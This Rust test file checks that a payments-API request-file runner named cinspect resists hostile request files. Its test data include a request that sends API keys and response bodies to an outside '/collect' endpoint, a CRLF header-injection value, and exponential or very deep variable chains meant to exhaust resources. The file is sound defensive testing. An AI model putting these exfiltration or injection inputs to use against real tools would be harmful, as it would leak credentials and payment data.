//! Request files from someone else's repository, run from the command line:
//! the environment's signature never goes to a host the user did not choose,
//! the file's own `@baseUrl`/`@merchantId` are named, production writes need a
//! yes, and hostile `{{variables}}` (a 10 000-link chain, a doubling ladder)
//! end with a message and exit 2, not a stack overflow or gigabytes.

mod common;

use std::net::SocketAddr;
use std::process::{Command, Output, Stdio};

use common::recorder::{self, Seen, Wire};
use connect_inspector::sim::{self, SimConfig};

/// A server standing for "elsewhere": it records what reaches it and answers 200 `{}`.
async fn elsewhere() -> (String, Seen) {
    recorder::start("{}").await
}

/// `cinspect ARGS` with `config.toml` (when given) in its own config directory,
/// no terminal on stdin; `{file}` in an argument is the path of `file`, written there.
async fn cinspect(args: &[&str], file: &str, config: Option<&str>) -> Output {
    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("shop.http");
    std::fs::write(&path, file).expect("written");
    if let Some(config) = config {
        std::fs::write(dir.path().join("config.toml"), config).expect("config");
    }
    let args: Vec<String> = args
        .iter()
        .map(|a| a.replace("{file}", &path.display().to_string()))
        .collect();
    let home = dir.path().to_path_buf();
    let out = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_cinspect"))
            .env("CINSPECT_CONFIG_DIR", &home)
            .env("LIVE_SECRET", sim::DEMO_SECRET)
            .args(&args)
            .stdin(Stdio::null())
            .output()
            .expect("cinspect runs")
    })
    .await
    .expect("joined");
    drop(dir);
    for stream in [&out.stdout, &out.stderr] {
        let text = String::from_utf8_lossy(stream);
        assert!(
            !text.contains(sim::DEMO_SECRET),
            "the secret leaked: {text}"
        );
    }
    out
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn signed(wire: &Wire) -> bool {
    wire.header("authorization").is_some()
}

#[tokio::test]
async fn a_files_base_url_elsewhere_gets_no_signature() {
    let running = sim::spawn(SocketAddr::from(([127, 0, 0, 1], 0)), SimConfig::default())
        .await
        .expect("sim");
    let (other, seen) = elsewhere().await;
    // The override comes after the request, as in the attack: REST Client's variables are file-wide.
    let file = format!(
        "POST {{{{baseUrl}}}}/v1/{{{{merchantId}}}}/payments\nContent-Type: application/json\n\n{{}}\n\n###\n@baseUrl = {other}\n"
    );
    let base = running.base_url();
    let out = cinspect(&["run", "{file}", "--base-url", &base], &file, None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "the file sets @baseUrl = {other} in place of the environment's {base}"
        )),
        "the override is named: {err}"
    );
    assert!(
        err.contains(&format!(
            "goes to {other}, not to the sim environment's origin ({base})"
        )),
        "both origins are named: {err}"
    );
    assert!(err.contains("--allow-origin"), "{err}");
    assert!(seen.lock().expect("lock").is_empty(), "nothing reached it");

    // Allowed for that origin: sent, and unsigned.
    let out = cinspect(
        &[
            "run",
            "{file}",
            "--base-url",
            &base,
            "--allow-origin",
            &other,
        ],
        &file,
        None,
    )
    .await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(err.contains(&format!("sent unsigned to {other}")), "{err}");
    let seen = seen.lock().expect("lock").clone();
    assert_eq!(seen.len(), 1);
    assert!(
        !signed(&seen[0]),
        "no Authorization went there: {:?}",
        seen[0]
    );
    running.shutdown().await;
}

#[tokio::test]
async fn a_full_url_elsewhere_is_refused_by_send_and_run_alike() {
    let (other, seen) = elsewhere().await;
    let url = format!("{other}/v1/1234/services/testconnection");
    let out = cinspect(&["run", "{file}"], &format!("GET {url}\n"), None).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let out = cinspect(&["send", "--method", "GET", "--path", &url], "", None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not to the sim environment's origin"), "{err}");
    assert!(seen.lock().expect("lock").is_empty());
    // The same host with its default port spelled out is the same origin; another port is not.
    let out = cinspect(
        &[
            "send",
            "--method",
            "GET",
            "--path",
            &url,
            "--allow-origin",
            &format!("{other}/"),
        ],
        "",
        None,
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!signed(&seen.lock().expect("lock")[0]));
}

#[tokio::test]
async fn run_asks_before_writing_to_production_and_refuses_without_a_terminal() {
    let running = sim::spawn(SocketAddr::from(([127, 0, 0, 1], 0)), SimConfig::default())
        .await
        .expect("sim");
    let config = format!(
        "[environments.live]\nbase_url = \"{}\"\nproduction = true\nmerchant_id = \"{}\"\napi_key_id = \"{}\"\nsecret_env = \"LIVE_SECRET\"\n",
        running.base_url(),
        sim::DEMO_MERCHANT_ID,
        sim::DEMO_API_KEY_ID
    );
    let file = "GET /v1/{merchantId}/services/testconnection\n\n###\nPOST /v1/{merchantId}/payments\nContent-Type: application/json\n\n{}\n";
    let out = cinspect(&["run", "{file}", "--env", "live"], file, Some(&config)).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("POST to PRODUCTION"), "{err}");
    assert!(err.contains("--yes-production"), "{err}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("200"), "the GET before it went: {stdout}");
    let out = cinspect(
        &[
            "run",
            "{file}",
            "--env",
            "live",
            "--yes-production",
            "--keep-going",
        ],
        file,
        Some(&config),
    )
    .await;
    let err = stderr(&out);
    assert!(!err.contains("PRODUCTION"), "{err}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("400"),
        "the POST went (and the sim judged it): {stdout}"
    );
    running.shutdown().await;
}

#[tokio::test]
async fn a_long_chain_of_variables_ends_with_the_chain_named() {
    let mut file = String::from(
        "POST /v1/{{merchantId}}/payments\nContent-Type: application/json\n\n{\"a\": \"{{v0}}\"}\n\n###\n",
    );
    for i in 0..10_000 {
        file.push_str(&format!("@v{i} = {{{{v{}}}}}\n", i + 1));
    }
    file.push_str("@v10000 = end\n");
    assert!(file.len() > 150_000);
    let out = cinspect(&["run", "{file}"], &file, None).await;
    let err = stderr(&out);
    assert_eq!(
        out.status.code(),
        Some(2),
        "not a stack overflow (134): {err}"
    );
    assert!(
        err.contains("more than 64 deep: v0 → v1 → v2 → v3 → …"),
        "{err}"
    );
}

#[tokio::test]
async fn doubling_variables_stop_at_the_request_cap() {
    let mut file = String::from(
        "POST /v1/{{merchantId}}/payments\nContent-Type: application/json\n\n{\"a\": \"{{l26}}\"}\n\n###\n@l0 = xxxxxxxxxxxxxxxxxxxx\n",
    );
    for i in 1..=26 {
        file.push_str(&format!("@l{i} = {{{{l{p}}}}}{{{{l{p}}}}}\n", p = i - 1));
    }
    assert!(file.len() < 1000, "a few hundred bytes");
    let out = cinspect(&["run", "{file}"], &file, None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("{{l18}} fills to more than 4 MB"), "{err}");
}

#[tokio::test]
async fn an_endless_request_file_is_refused_at_the_cap() {
    let out = cinspect(&["run", "/dev/zero"], "", None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("more than 4 MB"), "{err}");
}

#[tokio::test]
async fn a_line_break_captured_into_a_header_names_the_header_and_the_variable() {
    let running = sim::spawn(SocketAddr::from(([127, 0, 0, 1], 0)), SimConfig::default())
        .await
        .expect("sim");
    let (other, _) = recorder::start("{\"v\": \"a\\r\\nX-Injected: 1\"}").await;
    let file = format!(
        "### a\n# @name a\nGET {other}/x\n\n### b\nGET /v1/{{{{merchantId}}}}/services/testconnection\nX-Note: {{{{a.response.body.$.v}}}}\n"
    );
    let base = running.base_url();
    let out = cinspect(
        &[
            "run",
            "{file}",
            "--base-url",
            &base,
            "--allow-origin",
            &other,
        ],
        &file,
        None,
    )
    .await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(
            "header X-Note: the value filled from {{a.response.body.$.v}} holds a line break"
        ),
        "{err}"
    );
    assert!(!err.contains("invalid URL"), "{err}");
    running.shutdown().await;
}

#[tokio::test]
async fn a_files_own_authorization_line_does_not_open_the_way_to_another_host() {
    let running = sim::spawn(SocketAddr::from(([127, 0, 0, 1], 0)), SimConfig::default())
        .await
        .expect("sim");
    let (other, seen) = elsewhere().await;
    let file = format!(
        "### r1\n# @name r1\nGET {{{{baseUrl}}}}/v1/{{{{merchantId}}}}/services/testconnection\n\n\
         ### out\nPOST {other}/collect?k={{{{apiKeyId}}}}\nAuthorization: x\nContent-Type: application/json\n\n{{\"stolen\": {{{{r1.response.body}}}}}}\n"
    );
    let base = running.base_url();
    let out = cinspect(&["run", "{file}", "--base-url", &base], &file, None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not to the sim environment's origin"), "{err}");
    assert!(seen.lock().expect("lock").is_empty(), "nothing reached it");
    // Allowed: it goes, with its own Authorization, and nothing of the integrator's.
    let out = cinspect(
        &[
            "run",
            "{file}",
            "--base-url",
            &base,
            "--allow-origin",
            &other,
        ],
        &file,
        None,
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let seen = seen.lock().expect("lock").clone();
    assert_eq!(seen.len(), 1);
    let names: Vec<&str> = seen[0].headers.iter().map(|(n, _)| n.as_str()).collect();
    assert!(!names.contains(&"x-gcs-servermetainfo"), "{names:?}");
    running.shutdown().await;
}

#[tokio::test]
async fn a_base_url_that_is_not_a_url_is_refused_not_signed_for() {
    let (other, seen) = elsewhere().await;
    let url = format!("{other}/v1/1234/payments");
    for base in ["localhost:7878", "http://localhost:78780"] {
        let out = cinspect(
            &["run", "{file}", "--base-url", base],
            &format!("GET {url}\n"),
            None,
        )
        .await;
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{base}: {err}");
        assert!(
            err.contains("is not an http:// or https:// URL"),
            "{base}: {err}"
        );
    }
    let config = "[environments.dev]\nbase_url = \"http://localhost:78780\"\nmerchant_id = \"1\"\napi_key_id = \"k\"\nsecret_env = \"LIVE_SECRET\"\n";
    let out = cinspect(
        &["run", "{file}", "--env", "dev"],
        &format!("GET {url}\n"),
        Some(config),
    )
    .await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        seen.lock().expect("lock").is_empty(),
        "nothing signed went anywhere"
    );
}

#[tokio::test]
async fn sixty_thousand_names_without_a_value_are_counted_not_each_compared() {
    let refs: String = (0..60_000).map(|i| format!("{{{{u{i}}}}}")).collect();
    let file = format!(
        "POST /v1/{{{{merchantId}}}}/payments\n\n{{\"x\": \"{{{{a}}}}\"}}\n\n###\n@a = {refs}\n"
    );
    let out = cinspect(&["run", "{file}"], &file, None).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("{{u0}}, {{u1}}"), "{err}");
    assert!(err.contains("and 59980 more"), "{err}");
}

#[tokio::test]
async fn a_huge_id_from_a_response_is_not_carried_into_later_requests() {
    let big = Box::leak(
        format!("{{\"payment\": {{\"id\": \"{}\"}}}}", "A".repeat(2_000)).into_boxed_str(),
    );
    let (other, _) = recorder::start(big).await;
    let file = format!(
        "POST {other}/v1/1/payments\nContent-Type: application/json\n\n{{}}\n\n###\nPOST {other}/v1/1/payments/{{paymentId}}/cancel\n"
    );
    let out = cinspect(
        &["run", "{file}", "--allow-origin", &other, "--json"],
        &file,
        None,
    )
    .await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{stdout} {}", stderr(&out));
    assert!(stdout.contains("{paymentId}"), "not filled: {stdout}");
}

#[tokio::test]
async fn send_to_the_default_production_environment_asks_for_its_name() {
    let config = "environment = \"live\"\n[environments.live]\nbase_url = \"http://127.0.0.1:9\"\nproduction = true\nmerchant_id = \"1\"\napi_key_id = \"k\"\nsecret_env = \"LIVE_SECRET\"\n";
    let out = cinspect(
        &[
            "send",
            "--method",
            "POST",
            "--path",
            "/v1/{merchantId}/payments",
            "--body",
            "{file}",
        ],
        "{}",
        Some(config),
    )
    .await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("PRODUCTION") && err.contains("--env"), "{err}");
}

#[tokio::test]
async fn endless_bodies_and_secrets_are_read_up_to_a_cap() {
    for args in [
        &[
            "send",
            "--method",
            "POST",
            "--path",
            "/v1/1/x",
            "--body",
            "/dev/zero",
        ][..],
        &["locate", "--body", "/dev/zero", "a.b"],
    ] {
        let out = cinspect(args, "", None).await;
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("more than 64 MB"), "{args:?}: {err}");
    }
}
